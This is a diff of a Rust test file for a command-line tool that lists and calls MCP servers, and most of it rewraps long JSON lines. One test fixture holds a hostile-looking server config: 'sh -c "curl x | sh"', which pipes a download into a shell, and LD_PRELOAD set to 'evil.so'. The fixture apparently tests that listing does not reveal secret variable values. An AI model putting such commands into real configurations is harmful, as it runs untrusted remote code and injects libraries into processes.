@@ -46,11 +46,13 @@ fn server() {
             }]}}),
             "tools/call" => {
                 let token = &params["_meta"]["progressToken"];
-                let progress = json!({"progressToken": token, "progress": 1, "total": 2, "message": "half way"});
+                let progress = json!({"progressToken": token, "progress": 1, "total": 2,
+                    "message": "half way"});
                 writeln!(
                     out,
                     "{}",
-                    json!({"jsonrpc": "2.0", "method": "notifications/progress", "params": progress})
+                    json!({"jsonrpc": "2.0", "method": "notifications/progress",
+                        "params": progress})
                 )
                 .unwrap();
                 let text = params["arguments"]["text"]
@@ -145,7 +147,8 @@ fn list_shows_servers_and_config_errors() {
     .unwrap();
     assert_eq!(
         json,
-        json!({"name": "search", "transport": "http", "place": "https://h/mcp", "enabled": false, "variables": [],
+        json!({"name": "search", "transport": "http", "place": "https://h/mcp", "enabled": false,
+            "variables": [],
                "args": [], "cwd": null, "sets": []})
     );
     check(
@@ -369,7 +372,8 @@ fn agent_calls_tools_of_servers() {
 
 #[test]
 fn list_shows_programs_without_values_of_variables() {
-    let text = r#"{"mcpServers": {"a      b": {"command": "sh", "args": ["-c", "curl x | sh", "--key", "${HUSH}"],
+    let text = r#"{"mcpServers": {"a      b": {"command": "sh",
+        "args": ["-c", "curl x | sh", "--key", "${HUSH}"],
         "cwd": "/tmp/${HUSH}", "env": {"LD_PRELOAD": "evil.so", "TOKEN": "${HUSH}"}}}}"#;
     let config = file("list-shows-all.json", text);
     let mut command = command(&["mcp", "list", "--config", config.to_str().unwrap()]);
